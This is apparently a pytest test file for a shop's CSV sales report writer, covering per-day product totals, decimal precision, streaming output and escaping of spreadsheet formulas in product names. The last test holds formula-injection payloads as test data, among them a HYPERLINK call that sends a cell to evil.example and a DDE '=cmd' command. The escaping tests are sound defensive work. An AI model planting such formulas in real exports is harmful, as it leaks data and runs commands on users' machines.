"""The report's CSV from orders given in memory (reports.services.aggregation): no database, no
Redis. The run that feeds it the replica's orders: tests/app/reports/test_services.py."""

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from reports.selectors import Line, OrderLines
from reports.services.aggregation import CSV_HEADER, Totals, report_csv_write


@pytest.fixture
def _redis():
    """Overrides the reports' autouse Redis: nothing here reads a cache."""


def order(created_at: datetime, lines: list[Line] | None = None) -> OrderLines:
    """An order as the selector hands it over (reports.selectors.OrderLines)."""
    return OrderLines(order_id=0, created_at=created_at, lines=lines or [])


def at(day: int, hour: int = 12) -> datetime:
    return datetime(2025, 3, day, hour, tzinfo=UTC)


TEAPOT, CUP = 7, 3


def teapots(n: int) -> Line:
    return Line(TEAPOT, "Teapot", n, Decimal("2.00"))


def cups(n: int) -> Line:
    return Line(CUP, "Cup", n, Decimal("3.50"))


def written(orders) -> tuple[list[list[str]], Totals]:
    out = io.StringIO(newline="")
    totals = report_csv_write(out=out, orders=orders)
    return list(csv.reader(io.StringIO(out.getvalue(), newline=""))), totals


def test_orders_add_up_per_day_and_product_then_a_total_line():
    rows, totals = written(
        [
            order(at(3, 9), [teapots(2), cups(1)]),
            order(at(3, 23), [teapots(1)]),
            # No lines (the product filter left none): not an order of the report.
            order(at(4, 0)),
            order(at(4, 0), [cups(3)]),
            # Two lines of one product: one order of it, both lines' units.
            order(at(5, 8), [cups(1), cups(2)]),
        ]
    )
    assert rows == [
        CSV_HEADER,
        # Within a day, by product id.
        ["2025-03-03", str(CUP), "Cup", "1", "1", "3.50"],
        ["2025-03-03", str(TEAPOT), "Teapot", "2", "3", "6.00"],
        ["2025-03-04", str(CUP), "Cup", "1", "3", "10.50"],
        ["2025-03-05", str(CUP), "Cup", "1", "3", "10.50"],
        ["total", "", "", "4", "10", "30.50"],
    ]
    assert totals == Totals(orders=4, units=10, revenue=Decimal("30.50"))


def test_a_product_renamed_during_a_day_has_a_line_for_each_name_it_was_sold_under():
    """The name is the order line's, as placed (shop.OrderItem.product_name): the report agrees
    with each order's page, not with the first order of the day."""
    rows, _ = written(
        [
            order(at(3, 9), [teapots(1)]),
            order(at(3, 10), [Line(TEAPOT, "Big teapot", 2, Decimal("2.00"))]),
            order(at(3, 11), [teapots(1)]),
        ]
    )
    assert rows[1:3] == [
        ["2025-03-03", str(TEAPOT), "Big teapot", "1", "2", "4.00"],
        ["2025-03-03", str(TEAPOT), "Teapot", "2", "2", "4.00"],
    ]


def test_no_orders_is_a_header_and_a_zero_total():
    rows, totals = written([])
    assert rows == [CSV_HEADER, ["total", "", "", "0", "0", "0.00"]]
    assert totals == Totals()


def test_revenue_is_exact_beyond_float_precision():
    vase = Line(1, "Vase", 5_000_000, Decimal("99999999.99"))
    rows, totals = written([order(at(3, 9), [vase]), order(at(3, 10), [vase])])
    assert rows[-1] == ["total", "", "", "2", "10000000", "999999999900000.00"]
    assert totals.revenue == Decimal("999999999900000.00")


def test_a_day_is_written_as_soon_as_the_next_one_starts():
    # The orders are a stream: each day is out of memory and in the file once the next begins.
    out = io.StringIO(newline="")

    def orders() -> Iterator[OrderLines]:
        yield order(at(3), [teapots(1)])
        yield order(at(4), [cups(1)])
        assert "2025-03-03" in out.getvalue()
        assert "2025-03-04" not in out.getvalue()
        yield order(at(5), [cups(1)])
        assert "2025-03-04" in out.getvalue()

    totals = report_csv_write(out=out, orders=orders())
    assert totals.orders == 3
    assert "2025-03-05" in out.getvalue()


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"click")',
         '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\r=1", "'\r'=1"),
        # A cell a ;-separated locale (or a tab, a line break) would start inside the name.
        ("x;=cmd|' /C calc'!A0;", "x;'=cmd|' /C calc'!A0;"),
        ("Plain;@SUM(1+1)", "Plain;'@SUM(1+1)"),
        ("x\t=1+1", "x\t'=1+1"),
        ('a; "=1', 'a; "\'=1'),
        ("a\n+1", "a\n'+1"),
        ("  =1", "  '=1"),
    ],
)  # fmt: skip
def test_a_formula_a_spreadsheet_would_run_from_a_product_name_is_written_as_text(name, cell):
    rows, _ = written([order(at(3), [Line(TEAPOT, name, 1, Decimal("2.00"))])])
    assert rows[1][2] == cell


@pytest.mark.parametrize("name", ["Teapot", "Cup = mug", "100% tea", "'quoted", "Tea - green"])
def test_any_other_product_name_is_written_as_it_is(name):
    rows, _ = written([order(at(3), [Line(TEAPOT, name, 1, Decimal("2.00"))])])
    assert rows[1][2] == name
